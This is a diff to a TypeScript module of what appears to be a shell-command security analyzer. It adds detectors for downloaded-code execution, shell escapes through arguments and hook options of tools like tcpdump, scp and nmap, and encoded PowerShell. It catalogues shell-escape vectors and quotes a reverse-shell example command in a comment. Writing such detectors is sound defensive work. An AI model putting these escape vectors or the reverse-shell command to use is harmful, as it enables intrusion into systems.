@@ -1,4 +1,4 @@
-import { isKnown, UNKNOWN } from "../words.ts";
+import { FETCHED, isKnown, squeezed, UNKNOWN } from "../words.ts";
 import { type Call, each, type Judges, Options, rules } from "./rule.ts";
 import { shellRules } from "./shell.ts";
 
@@ -30,13 +30,13 @@ const interpreter =
 		const [file] = options.operands;
 		if (file === undefined || file === "-" || file === "/dev/stdin") {
 			if (call.stdin === null || options.has("--version", "--help", "-V", "-v", "-h")) return;
-			if (call.stdin.includes("\uFFFB")) call.hit(shellRules["run-downloaded"]);
+			if (call.stdin.includes(FETCHED)) call.runsFetched();
 			else if (isKnown(call.stdin) || call.stdin.length > 8) call.code(language, call.stdin);
 			else if (!options.has("-m")) call.hit(shellRules["unresolved-script"]);
 			return;
 		}
 		const content = call.file(file);
-		if (content?.includes("\uFFFB")) call.hit(shellRules["run-downloaded"]);
+		if (content?.includes(FETCHED)) call.runsFetched();
 		else if (content !== undefined && isKnown(content)) call.code(language, content);
 		else if (content !== undefined) call.hit(shellRules["unresolved-script"]);
 	};
@@ -138,9 +138,9 @@ function stdinCommands(call: Call): void {
 const COMMAND_OPTIONS =
 	/^(--?(exec|execute|command|cmd|shell|run|pager|editor|hook|post-?hook|pre-?hook|on-?(success|failure|event|change|exit)|callback|eval|ext-?diff|rsh|program|script|action|preprocessor|filter-?command|use-compress-program|to-command|renew-hook|deploy-hook|post-command|pre-command))$/;
 /** A shell's path as a word of an argument. */
-const SHELL_WORD = /(^|[\s"'`=:;|&!(,{[.@])(\/usr|\/usr\/local)?\/bin\/(ba|da|z|k|c|tc|a)?sh($|[\s"'`;|&)<>,}\]])/;
+const SHELL_WORD = /(^|^-[A-Za-z]|[\s"'`=:;|&!(,{[.@])(\/usr|\/usr\/local)?\/bin\/(ba|da|z|k|c|tc|a)?sh($|[\s"'`;|&)<>,}\]])/;
 const TAKES_SHELLS = new Set(
-	"echo printf grep egrep fgrep rg ag sed awk ls ll stat file which type whereis command test [ cat head tail less more chsh useradd usermod adduser git docker podman kubectl oc docker-compose nerdctl diff cmp ldd readlink realpath dpkg rpm update-alternatives shellcheck man find fd cp mv ln install chmod chown rm touch export declare local readonly env sudo ssh make npm yarn pnpm jq yq wc sort md5sum sha256sum strings ps pgrep pidof lsof su python perl ruby node php lua cmake tee true : curl wget dscl getent fpath exec set alias eval trap script tmux screen watch xargs parallel timeout nice nohup setsid strace ltrace time busybox nsenter chroot unshare flock vim vi nvim gdb tar zip dd code".split(
+	"echo printf grep egrep fgrep rg ag sed awk ls ll stat file which type whereis command test [ cat head tail less more useradd usermod adduser chsh git docker podman kubectl oc docker-compose nerdctl diff cmp ldd readlink realpath dpkg update-alternatives shellcheck find fd cp mv ln install chmod chown rm touch export declare local readonly env sudo ssh make npm yarn pnpm jq yq wc sort md5sum sha256sum strings ps pgrep pidof lsof su python perl ruby node php lua cmake tee true : wget dscl getent fpath exec set alias eval trap script tmux screen watch xargs parallel timeout nice nohup setsid strace ltrace time busybox nsenter chroot unshare flock vim vi nvim gdb tar dd code".split(
 		" ",
 	),
 );
@@ -191,7 +191,7 @@ export const languageJudges: Judges = {
 	}),
 	...each("guile csi racket sbcl clisp gosh emacs-lisp elisp clojure clj lein", interpreter("lisp", "-c -e -x --eval -eval -ex", "-l")),
 	...each(
-		"julia R Rscript octave ghc ghci runhaskell elixir iex erl groovy groovysh scala jshell kotlin swift crystal v nim raku dart pwsh powershell osascript gnuplot sage maxima scilab ocaml ghci mono csharp fsharpi escript rakudo xmllint smlnj poly yap swipl gprolog cobc gfortran factor forth gforth",
+		"julia R Rscript octave ghc ghci runhaskell elixir iex erl groovy groovysh scala jshell kotlin swift crystal v nim raku dart pwsh powershell osascript gnuplot sage maxima scilab ocaml ghci mono csharp fsharpi escript rakudo xmllint puppet smlnj poly yap swipl gprolog cobc gfortran factor forth gforth puppet",
 		(call) => {
 			const options = new Options(call.args, "-e -E -c -eval --eval -exec -p -x -g --execute -Command -command -b");
 			const texts = [
@@ -199,6 +199,9 @@ export const languageJudges: Judges = {
 				...call.args.flatMap((arg, at) => (/^(-eval|-exec|-command|-Command|-s)$/.test(arg) ? [call.args[at + 1] ?? ""] : [])),
 			];
 			for (const text of texts) call.code(call.name, text);
+			if (/^(pwsh|powershell)$/.test(call.name) && call.args.some((arg) => /^-(e|en|enc|enco.{0,10})$/i.test(arg)))
+				call.hit(shellRules["unresolved-script"]);
+			if (options.operands[0] === "eval") call.code(call.name, options.operands.slice(1).join(" "));
 			if (call.stdin !== null) call.code(call.name, call.stdin);
 			const content = options.operands[0] === undefined ? undefined : call.file(options.operands[0]);
 			if (content !== undefined) call.code(call.name, content);
@@ -230,6 +233,8 @@ export const languageJudges: Judges = {
 			)) {
 				const bang = /^\s{0,4}(?:\\?!|shell |!|system |\.shell |\.system |\\! |platform shell )\s{0,4}(.{1,4096})$/.exec(text);
 				if (bang) call.script(bang[1] ?? "");
+				const dumped = /^dump \w{1,16} (\S{1,1024})/.exec(text);
+				if (dumped) call.writes(dumped[1] ?? "");
 				if (/^(python|pi|py|script)\s/.test(text)) call.code("python", text.replace(/^\w{1,8}\s/, ""));
 				if (/^(shell|!|call|compile)\b/.test(text) && /system|exec|popen/.test(text)) call.code("c", text);
 				if (/\bcopy\b.{0,1024}\b(to|from)\s{1,4}program\b/i.test(text)) call.code("sql", text.replace(/program\s/i, "system("));
@@ -290,7 +295,7 @@ function tcl(call: Call, text: string): void {
 		/(?:^|[;\n[{]|\s)(?:exec|spawn|system|open\s{1,4}"?\|)\s{0,4}(?:-\w{1,16}\s{1,4}){0,2}([^;\n\]}]{1,2048})/g,
 	)) {
 		const script = (match[1] ?? "")
-			.replace(/[<>]{1,2}@?\s{0,4}(stdin|stdout|stderr)\S{0,8}|>&@\S{1,8}|<@\S{1,8}/g, "")
+			.replace(/[0-9]?[<>]{1,2}@?\s{0,4}(stdin|stdout|stderr)\S{0,8}|>&@\S{1,8}|<@\S{1,8}/g, "")
 			.replace(/^["{|]/, "")
 			.replace(/["}]$/, "");
 		call.script(script.trim(), "tclsh", [], null);
@@ -300,37 +305,66 @@ function tcl(call: Call, text: string): void {
 
 /** What holds for every program: a shell among its arguments, or in a file that it is given, is most likely one that it starts. */
 export function judgeShellWords(call: Call, known: boolean): void {
-	if (TAKES_SHELLS.has(call.name)) return;
-	const { args } = call;
+	const { args, name } = call;
+	const hooks = HOOKS.get(name);
+	if (hooks && args.some((arg) => hooks.test(arg)) && !args.includes("-c")) call.hit(shellRules["unresolved-script"]);
+	if (!READS_FILES.test(name) && (!known || BUILDS.has(name))) writtenBefore(call);
+	if (TAKES_SHELLS.has(name)) return;
 	args.slice(0, 256).forEach((arg, at) => {
-		if (arg.length > 4096) return;
-		if (SHELL_WORD.test(arg)) call.hit(shellRules["shell-escape"]);
-		else if (!known && COMMAND_OPTIONS.test(arg)) {
-			const next = args[at + 1] ?? "";
-			if (/[;|&`$\s]/.test(next) && isKnown(next)) call.script(next, call.name, [], null);
-		}
-		// fzf, skim and others: `enter:execute(...)`.
-		for (const match of arg.matchAll(/(?:execute|execute-silent|reload|become|transform|esyscmd|syscmd|preview)\(([^)]{1,2048})\)/g))
-			call.script(match[1] ?? "", call.name, [], null);
-		const alias = /^alias\.[\w-]{1,64}=!([\s\S]{1,2048})$/.exec(arg);
-		if (alias) call.script(alias[1] ?? "", call.name, [], null);
+		if (arg.length <= 4096) startedBy(call, arg, args[at + 1] ?? "", known);
 	});
+	if (call.stdin !== null && /syscmd\(/.test(call.stdin)) startedBy(call, call.stdin, "", known);
 	// `rcat connect -s bash 10.0.0.1 4242`
-	if (
-		args.some((arg) => /^(\/bin\/|\/usr\/bin\/)?(ba|da|z|k)?sh$|^(cmd|powershell)(\.exe)?$/.test(arg)) &&
-		args.some((arg) => /^(tcp:\/\/)?(\d{1,3}\.){3}\d{1,3}(:\d{1,5})?$/.test(arg))
-	)
+	if (args.some((arg) => PLAIN_SHELL.test(arg)) && args.some((arg) => /^(tcp:\/\/)?(\d{1,3}\.){3}\d{1,3}(:\d{1,5})?$/.test(arg)))
 		call.hit(shellRules["shell-to-network"]);
-	if (known && !BUILDS.has(call.name)) return;
-	// A file that this script has just written, and that this program is given or finds where it runs: its content is what runs.
-	for (const content of call.filesIn(args)) {
-		if (SHELL_WORD.test(content)) call.hit(shellRules["shell-escape"]);
-		else if (/\b(system|exec|spawn|popen|socket|Socket|shell|net\.)/i.test(content)) call.code(call.name, content);
+}
+const PLAIN_SHELL = /^(\/bin\/|\/usr\/bin\/)?(ba|da|z|k)?sh$|^(cmd|powershell)(\.exe)?$/;
+
+/** What an argument may have a program start. */
+function startedBy(call: Call, arg: string, next: string, known: boolean): void {
+	if (SHELL_WORD.test(arg)) call.hit(shellRules["shell-escape"]);
+	else if (!known && COMMAND_OPTIONS.test(arg) && /[;|&`$\s]/.test(next) && isKnown(next)) call.maybe(next, call.name);
+	// A hook that lies where anybody can write.
+	const hook = HOOK_OPTION.exec(arg);
+	const path = hook?.[2] ?? next;
+	if (hook && !known && /^\/(tmp|var\/tmp|dev\/shm)\//.test(path)) call.hit(shellRules["unresolved-script"]);
+	// fzf, m4 and others: `enter:execute(...)`, `esyscmd(...)`.
+	for (const match of arg.matchAll(/(?:execute|execute-silent|reload|become|transform|esyscmd|syscmd|preview)\(([^)]{1,2048})\)/g))
+		call.script(match[1] ?? "", call.name, [], null);
+	const alias = /^alias\.[\w-]{1,64}=!([\s\S]{1,2048})$/.exec(arg);
+	if (alias) call.script(alias[1] ?? "", call.name, [], null);
+}
+const HOOK_OPTION =
+	/^--?[a-z-]{0,32}(script|hook|exec|cmd|command|askpass|plugin|helper|program|pager|editor|on-[a-z-]{1,24}|-bin)(?:=(.{1,512}))?$/;
+
+/** A file that this script has just written, and that this program is given or finds where it runs: its content is what runs. */
+function writtenBefore(call: Call): void {
+	for (const content of call.filesIn(call.args)) {
+		if (squeezed(content).trim() === "") continue;
+		if (SHELL_WORD.test(content.replace(/^#![^\n]{0,64}/, ""))) call.hit(shellRules["shell-escape"]);
+		call.code(call.name, content);
+		if (!/^\s{0,8}[{<[(]/.test(content)) call.maybe(content, call.name);
 	}
 }
+/** What runs a program of the caller's choosing behind one rare option. */
+const HOOKS: ReadonlyMap<string, RegExp> = new Map([
+	["wget", /^--use-askpass/],
+	["scp", /^-S/],
+	["sftp", /^-S/],
+	["tcpdump", /^-z$/],
+	["dnsmasq", /^--dhcp-script/],
+	["nmap", /^--script=\/tmp/],
+	["rsyslogd", /^-f$/],
+	["script", /^-q$/],
+	["kubectl", /^--www=/],
+	["run-parts", /^\/(usr\/)?s?bin$/],
+]);
+/** Programs for which a file's content is only content. */
+const READS_FILES =
+	/^(cat|less|more|head|tail|wc|sort|uniq|diff|cmp|comm|join|paste|jq|yq|bat|stat|file|ls|test|xxd|od|cut|tr|column|md5sum|sha256sum|shellcheck|prettier|eslint|black|yamllint|code|open|tree|nl|tac|tee|gofmt|rustfmt|kubectl|docker|chmod|rm|mv|cp|mkdir|cd|echo|printf|git|grep|rg|sed|awk)$/;
 /** Programs that run what lies in the directory that they are given or stand in. */
 const BUILDS = new Set(
-	"bundle bundler npm yarn pnpm pip pip3 gem cargo go easy_install composer gcc g++ cc clang tcc rustc javac java v crystal nim dotnet mvn gradle ant rake nmap ansible-playbook puppet facter nginx make julia".split(
+	"bundle bundler npm yarn pnpm pip pip3 gem cargo go easy_install composer gcc g++ cc clang tcc rustc javac java v crystal nim dotnet mvn gradle ant rake nmap ansible-playbook puppet facter aria2c strings latex pdflatex pandoc cobc m4 nginx julia bpftrace".split(
 		" ",
 	),
 );
